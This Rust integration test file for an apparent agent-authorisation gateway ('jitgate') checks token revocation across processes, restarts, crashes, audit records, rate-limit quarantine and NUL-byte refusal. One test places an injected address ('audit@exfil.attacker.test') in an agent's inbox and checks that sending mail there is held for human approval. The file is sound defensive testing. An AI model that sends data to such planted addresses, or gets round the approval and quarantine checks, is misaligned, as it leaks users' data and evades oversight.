//! Several `jitgate serve` processes on one state directory, restarts and
//! crashes: authority lives in the store and belongs to the agent; each
//! process owns only the handshake-era sessions it served.

mod common;

use std::time::Duration;

use common::*;
use serde_json::json;

fn inspect(dep: &Deployment, token: &str) -> serde_json::Value {
    let (code, out, err) = jitgate(&["token", "inspect", token, "--json", "--config", dep.config.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{err}");
    serde_json::from_str(&out).unwrap()
}

/// Two processes on one state directory with a short lease, both ready.
async fn two_with_short_leases() -> (Deployment, Gateway, Gateway) {
    let dep = Deployment::new(&Setup { limits: "instance_lease = \"3s\"".into(), ..Setup::default() });
    let a = Gateway::start(&dep);
    let b = Gateway::start(&dep);
    a.wait_server("workspace", "ready").await;
    b.wait_server("workspace", "ready").await;
    (dep, a, b)
}

/// Wait (bounded) until `token` is revoked because its process's lease lapsed.
async fn revoked_by_lease_lapse(dep: &Deployment, token: &str) {
    let state = eventually(Duration::from_secs(20), || {
        let s = inspect(dep, token);
        async move { (s["state"] == "revoked").then_some(s) }
    })
    .await;
    assert!(state["reason"].as_str().unwrap().contains("lease lapsed"), "{state}");
}

/// A task of the two-phase plan, and an unused token to read the Q3 plan in it.
async fn task_holding_a_token(client: &rmcp::service::RunningService<rmcp::RoleClient, ()>) -> (String, String) {
    let task = begin(client, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
    let token = request(client, &task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    (task, token)
}

const TWO_PHASES: &str = r#"[{"name": "read", "tools": ["workspace__read_note"]}, {"name": "more", "tools": ["workspace__read_note", "workspace__list_notes"]}]"#;

/// A 2026-07-28 agent's task, begun through one process, continues through
/// the other, request by request alternating, as behind a load balancer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_moves_between_two_processes_request_by_request() {
    let dep = Deployment::new(&Setup::default());
    let a = Gateway::start(&dep);
    let b = Gateway::start(&dep);
    a.wait_server("workspace", "ready").await;
    b.wait_server("workspace", "ready").await;
    let token = dep.mint("triage");
    let (ca, cb) = (a.connect_modern(&token).await, b.connect_modern(&token).await);

    let task = begin(&ca, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
    let t = request(&cb, &task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    let r = call_with_token(&ca, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
    // The token was consumed through A: B refuses it as a replay.
    let r = call_with_token(&cb, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("token_replayed"));
    let spare = request(&ca, &task, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    let moved = raw_call(&cb, "jit_next_phase", json!({"task": task, "phase": "more"})).await.unwrap();
    assert_ne!(moved.is_error, Some(true), "{}", text_of(&moved));
    // The phase change made through B revoked the token minted through A.
    let r = call_with_token(&ca, "workspace__read_note", json!({"name": "welcome.md"}), &spare).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("token_revoked"));
    let t = request(&ca, &task, "workspace__list_notes", json!({})).await.unwrap();
    let r = call_with_token(&cb, "workspace__list_notes", json!({}), &t).await.unwrap();
    assert!(text_of(&r).contains("welcome.md"), "{}", text_of(&r));
    let ended = raw_call(&ca, "jit_end_task", json!({"task": task, "outcome": "done"})).await.unwrap();
    assert_ne!(ended.is_error, Some(true));
    let refused = request(&cb, &task, "workspace__list_notes", json!({})).await.unwrap_err();
    assert_eq!(refusal_code(&refused).as_deref(), Some("task_inactive"));

    // Another agent cannot continue the task through either process.
    let janitor = dep.mint("janitor");
    let other = b.connect_modern(&janitor).await;
    let task2 = begin(&ca, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
    let refused = request(&other, &task2, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap_err();
    assert_eq!(refusal_code(&refused).as_deref(), Some("task_not_found"));
    let t = request(&ca, &task2, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    let r = call_with_token(&other, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("token_wrong_agent"), "{}", text_of(&r));
    // ... and the owner still can.
    let r = call_with_token(&cb, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"));
}

/// Starting and stopping a process (a stdio agent beside the HTTP gateway,
/// as in the README's Claude Desktop recipe) revokes nothing of another's;
/// stopping revokes the sessions of the process that stopped, and says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn starting_or_stopping_a_process_revokes_only_its_own_sessions() {
    let dep = Deployment::new(&Setup::default());
    let a = Gateway::start(&dep);
    a.wait_server("workspace", "ready").await;
    let token = dep.mint("triage");
    // A handshake-era session on A, and a sessionless task, each holding a token.
    let legacy_a = a.connect(&token).await;
    let (task_a, held_a) = task_holding_a_token(&legacy_a).await;
    let modern_a = a.connect_modern(&token).await;
    let (task_m, held_m) = task_holding_a_token(&modern_a).await;

    // B starts (this used to revoke everything as "gateway restarted").
    let b = Gateway::start(&dep);
    b.wait_server("workspace", "ready").await;
    assert_eq!(inspect(&dep, &held_a)["state"], "issued");
    // B serves a session of its own, and a stdio process runs beside both.
    let legacy_b = b.connect(&token).await;
    let task_b = begin(&legacy_b, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
    let held_b = request(&legacy_b, &task_b, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    let id_file = dep.path("triage.jwt");
    std::fs::write(&id_file, &token).unwrap();
    let stdio = connect_stdio(&dep, &id_file).await;
    let r = call(&stdio, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    assert!(text_of(&r).contains("Welcome"), "{}", text_of(&r));
    stdio.cancel().await.unwrap();

    // B stops: its own session's authority ends, with the reason on record.
    b.stop();
    let state = inspect(&dep, &held_b);
    assert_eq!((state["state"].as_str(), state["reason"].as_str()), (Some("revoked"), Some("the gateway process serving the session stopped")));
    // A's session, the sessionless task, and what they hold are untouched and work.
    assert_eq!(inspect(&dep, &held_a)["state"], "issued");
    let r = call_with_token(&legacy_a, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_a).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
    let r = call_with_token(&modern_a, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_m).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));

    // A restarts: the sessionless task goes on through the new process.
    let next = request(&modern_a, &task_m, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    drop(modern_a);
    drop(legacy_a);
    a.stop();
    let a2 = Gateway::start(&dep);
    a2.wait_server("workspace", "ready").await;
    let modern = a2.connect_modern(&token).await;
    let r = call_with_token(&modern, "workspace__read_note", json!({"name": "welcome.md"}), &next).await.unwrap();
    assert!(text_of(&r).contains("Welcome"), "a sessionless token survives a restart: {}", text_of(&r));
    // The stopped process's session is over, and so is the task begun in it,
    // wherever its agent asks.
    let refused = request(&modern, &task_a, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap_err();
    assert_eq!(refusal_code(&refused).as_deref(), Some("task_inactive"), "{}", text_of(&refused));
}

/// A process that dies without stopping leaves its sessions behind; once its
/// lease lapses another process revokes them. Nothing else it did is lost.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_crashed_process_sessions_are_revoked_when_its_lease_lapses() {
    let (dep, a, b) = two_with_short_leases().await;
    let token = dep.mint("triage");
    let legacy = a.connect(&token).await;
    let (_, held) = task_holding_a_token(&legacy).await;
    let modern = a.connect_modern(&token).await;
    let (_, held_m) = task_holding_a_token(&modern).await;
    drop(legacy);
    drop(modern);
    a.crash();
    revoked_by_lease_lapse(&dep, &held).await;
    // The sessionless task lives on through B.
    let modern = b.connect_modern(&token).await;
    let r = call_with_token(&modern, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_m).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
}

/// What an agent read and how fast it asks are in the store: a restart
/// forgets neither. Before, an injected address refused before a restart
/// was allowed after it, and a burst started over.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn taint_and_request_rate_survive_a_restart() {
    let burst = "name = \"burst\"\nid = \"spiffe://jitgate.local/agent/burst\"\nteam = \"support\"\nallowed_tools = [\"workspace__read_note\"]\n\n[baseline]\nmax_requests_per_minute = 3\ndrift_threshold = 40\n";
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), agents: vec![("burst.toml".into(), burst.into())], ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let token = dep.mint("triage");
    let triage = gw.connect_modern(&token).await;
    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
    let inbox = call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
    assert!(text_of(&inbox).contains("audit@exfil.attacker.test"));
    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
    let send = |to: &str| json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": to, "subject": "Audit", "body": "see attached"}, "purpose": "comply"});
    assert_held_for_end_user(&grant(&triage, send("audit@exfil.attacker.test")).await, "platform-oncall");

    // The burst agent makes three requests: its limit.
    let agent = gw.connect_modern(&dep.mint("burst")).await;
    let btask = begin(&agent, json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    for _ in 0..3 {
        request(&agent, &btask, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    }
    drop(triage);
    drop(agent);
    gw.stop();

    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&token).await;
    // Still tainted after the restart: held for the end user, the same pending approval.
    assert_held_for_end_user(&grant(&triage, send("audit@exfil.attacker.test")).await, "platform-oncall");
    // Replying to the sender still works.
    let reply = request_with(&triage, send("alice@example.org")).await.unwrap();
    let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), &reply).await.unwrap();
    assert_ne!(sent.is_error, Some(true), "{}", text_of(&sent));
    // The fourth request within the minute is over the burst limit, restart or not.
    let agent = gw.connect_modern(&dep.mint("burst")).await;
    let refused = request(&agent, &btask, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap_err();
    assert_eq!(refusal_code(&refused).as_deref(), Some("agent_quarantined"), "{}", text_of(&refused));
    assert!(text_of(&refused).contains("4 requests in the last minute"), "{}", text_of(&refused));
}

/// A process paused past its lease loses what its sessions held (another
/// process revoked it); when it runs again and later dies, what its
/// sessions hold by then is revoked too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_paused_process_that_resumes_and_then_dies_leaves_nothing_behind() {
    let (dep, a, b) = two_with_short_leases().await;
    let token = dep.mint("triage");
    let legacy = a.connect(&token).await;
    let (_, held) = task_holding_a_token(&legacy).await;
    let pid = a.child.id().to_string();
    assert!(std::process::Command::new("kill").args(["-STOP", &pid]).status().unwrap().success());
    revoked_by_lease_lapse(&dep, &held).await;
    assert!(std::process::Command::new("kill").args(["-CONT", &pid]).status().unwrap().success());
    // Running again, it serves its session; then it dies for good.
    let (_, later) = task_holding_a_token(&legacy).await;
    drop(legacy);
    a.crash();
    revoked_by_lease_lapse(&dep, &later).await;
    drop(b);
}

/// One revocation, one audit record: both processes on the store poll it
/// (each would cancel its own calls in flight), and the trail and `trace`
/// show it once. A revocation made while no gateway runs is on record too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revocation_is_recorded_once_however_many_processes_poll_it() {
    let dep = Deployment::new(&Setup::default());
    let a = Gateway::start(&dep);
    let b = Gateway::start(&dep);
    a.wait_server("workspace", "ready").await;
    b.wait_server("workspace", "ready").await;
    let cfg = dep.config.to_str().unwrap().to_owned();
    let client = a.connect_modern(&dep.mint("triage")).await;
    let (task, _) = task_holding_a_token(&client).await;
    let (code, _, err) = jitgate(&["revoke", "--task", &task, "--reason", "incident 7", "--config", &cfg]);
    assert_eq!(code, Some(0), "{err}");
    // Both processes have polled it.
    a.wait_log("incident 7").await;
    b.wait_log("incident 7").await;
    let revocations_for = |reason: &str| -> Vec<serde_json::Value> {
        let (code, export, err) = jitgate(&["audit", "export", "--config", &cfg]);
        assert_eq!(code, Some(0), "{err}");
        export
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|r| r["kind"] == "revocation" && r["data"]["reason"] == reason)
            .collect()
    };
    let once = revocations_for("operator: incident 7");
    assert_eq!(once.len(), 1, "{once:?}");
    assert_eq!((once[0]["task"].as_str(), once[0]["data"]["tokens"].as_u64()), (Some(task.as_str()), Some(1)), "{once:?}");
    let (code, tree, err) = jitgate(&["trace", &task, "--config", &cfg]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(tree.matches("revoked (task)").count(), 1, "{tree}");

    drop(client);
    a.stop();
    b.stop();
    let (code, _, err) = jitgate(&["revoke", "--agent", "triage", "--reason", "while stopped", "--config", &cfg]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(revocations_for("operator: while stopped").len(), 1, "recorded with no gateway running to poll it");
    let (code, out, err) = jitgate(&["audit", "verify", "--config", &cfg]);
    assert_eq!(code, Some(0), "{out}{err}");
}

type Shared = std::sync::Arc<rmcp::service::RunningService<rmcp::RoleClient, ()>>;

/// Two processes on the quick start's policies with an agent `name` of
/// `team` that may use `tool`, allowed `limit` requests a minute (a burst
/// over it is drift), and `n` 2026-07-28 sessions of it, alternating
/// between the processes.
async fn limited_agent_on_two_processes(name: &str, team: &str, tool: &str, limit: usize, n: usize) -> (Deployment, Gateway, Gateway, Vec<Shared>) {
    let file = format!(
        "name = \"{name}\"\nid = \"spiffe://jitgate.local/agent/{name}\"\nteam = \"{team}\"\nallowed_tools = [\"{tool}\"]\n\n[baseline]\nmax_requests_per_minute = {limit}\ndrift_threshold = 40\n"
    );
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), agents: vec![(format!("{name}.toml"), file)], ..Setup::default() });
    let a = Gateway::start(&dep);
    let b = Gateway::start(&dep);
    a.wait_server("workspace", "ready").await;
    b.wait_server("workspace", "ready").await;
    let token = dep.mint(name);
    let mut sessions = Vec::new();
    for i in 0..n {
        sessions.push(std::sync::Arc::new(if i % 2 == 0 { a.connect_modern(&token).await } else { b.connect_modern(&token).await }));
    }
    (dep, a, b, sessions)
}

/// A burst sent in parallel, through two processes at once, meets the
/// agent's rate limit exactly. Each request reads the rate as committed, so
/// before, requests decided at the same moment did not see each other and a
/// parallel burst stayed under `max_requests_per_minute`; now the grant
/// counts with the exact window and a request that went over is decided
/// again on it: the limit's worth are granted, the burst quarantines the
/// agent, and once a person releases it its next request is granted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_parallel_burst_through_two_processes_meets_the_rate_limit_exactly() {
    const LIMIT: usize = 3;
    const BURST: usize = 12;
    let (dep, _a, _b, sessions) = limited_agent_on_two_processes("burst", "support", "workspace__read_note", LIMIT, 6).await;
    let task = begin(&sessions[0], json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    let answers = futures::future::join_all((0..BURST).map(|i| {
        let (client, task) = (sessions[i % sessions.len()].clone(), task.clone());
        async move { request(&client, &task, "workspace__read_note", json!({"name": "welcome.md"})).await }
    }))
    .await;
    let granted = answers.iter().filter(|a| a.is_ok()).count();
    let refusals: Vec<(Option<String>, String)> = answers.iter().filter_map(|a| a.as_ref().err()).map(|r| (refusal_code(r), text_of(r))).collect();
    assert_eq!(granted, LIMIT, "{refusals:?}");
    // The rest: the agent is quarantined, or the task it revoked is.
    let quarantined = |(code, text): &(Option<String>, String)| match code.as_deref() {
        Some("agent_quarantined") => true,
        Some("task_inactive") => text.contains("quarantined: drift"),
        _ => false,
    };
    assert!(refusals.iter().all(quarantined), "{refusals:?}");
    assert!(refusals.iter().any(|(_, text)| text.contains("requests in the last minute")), "the burst is what quarantined it: {refusals:?}");

    // Released by a person, the agent's window starts again and it works.
    let cred = dep.path("approver.jwt");
    std::fs::write(&cred, dep.mint_approver("alice@example.org", "platform-oncall")).unwrap();
    let (code, _, err) = jitgate(&["agents", "release", "burst", "--note", "load test", "--config", dep.config.to_str().unwrap(), "--credential", cred.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{err}");
    let again = begin(&sessions[1], json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    let t = request(&sessions[1], &again, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
    let r = call_with_token(&sessions[1], "workspace__read_note", json!({"name": "welcome.md"}), &t).await.unwrap();
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
}

/// The same for requests that are never granted: a parallel burst of
/// requests that policy holds for a person (a critical tool) each read the
/// committed rate, within the limit, and were held without a word of the
/// burst. Counting them is exact, and the request whose count goes over the
/// limit is judged again for the burst: the agent is quarantined. Its
/// ordinary held requests before the burst do not quarantine it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_parallel_burst_of_held_requests_quarantines_the_agent() {
    const LIMIT: usize = 3;
    let (_dep, _a, _b, sessions) = limited_agent_on_two_processes("prober", "platform", "workspace__delete_note", LIMIT, LIMIT + 1).await;
    let plan = json!([{"name": "clean", "tools": ["workspace__delete_note"]}]);
    let task = begin(&sessions[0], plan.clone()).await.unwrap();
    let delete = |name: &str| json!({"task": task, "tool": "workspace__delete_note", "arguments": {"name": name}, "purpose": "clean up"});
    // Within the limit, one after another: held for a person, nothing more.
    let held = grant(&sessions[0], delete("old-0.md")).await.unwrap();
    assert_eq!(held["decision"], "pending_approval", "{held}");
    // The rest of the window's worth and one more, at once: over the limit.
    let answers = futures::future::join_all(sessions.iter().take(LIMIT).enumerate().map(|(i, client)| {
        let (client, args) = (client.clone(), delete(&format!("old-{}.md", i + 1)));
        async move { grant(&client, args).await }
    }))
    .await;
    assert!(answers.iter().all(|a| a.as_ref().map_or(true, |v| v.get("token").is_none())), "nothing is granted: {answers:?}");
    let again = begin(&sessions[LIMIT], plan).await.unwrap_err();
    assert_eq!(refusal_code(&again).as_deref(), Some("agent_quarantined"), "{}", text_of(&again));
    assert!(text_of(&again).contains("requests in the last minute"), "the burst is what quarantined it: {}", text_of(&again));
}

/// A NUL in a request (its purpose, an argument's name or value) is refused
/// as bad input before anything is read or written: PostgreSQL's text
/// cannot hold one, so such a request used to fail in the store, uncounted,
/// and on PostgreSQL roll back the other requests committed with it. The
/// same request without it is granted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_carrying_a_nul_is_refused_as_bad_input() {
    let dep = Deployment::new(&Setup::default());
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let client = gw.connect_modern(&dep.mint("triage")).await;
    let task = begin(&client, json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    let ask = |purpose: &str, constraints: serde_json::Value| json!({"task": task, "tool": "workspace__read_note", "constraints": constraints, "purpose": purpose});
    for request in [
        ask("read\u{0}", json!({"name": {"eq": "welcome.md"}})),
        ask("read", json!({"na\u{0}me": {"eq": "welcome.md"}})),
        ask("read", json!({"name": {"eq": "wel\u{0}come.md"}})),
    ] {
        let refused = raw_call(&client, "jit_request", request).await.unwrap();
        assert_eq!(refused.is_error, Some(true));
        assert!(text_of(&refused).contains("NUL"), "{}", text_of(&refused));
    }
    let granted = raw_call(&client, "jit_request", ask("read", json!({"name": {"eq": "welcome.md"}}))).await.unwrap();
    assert_ne!(granted.is_error, Some(true), "{}", text_of(&granted));
}
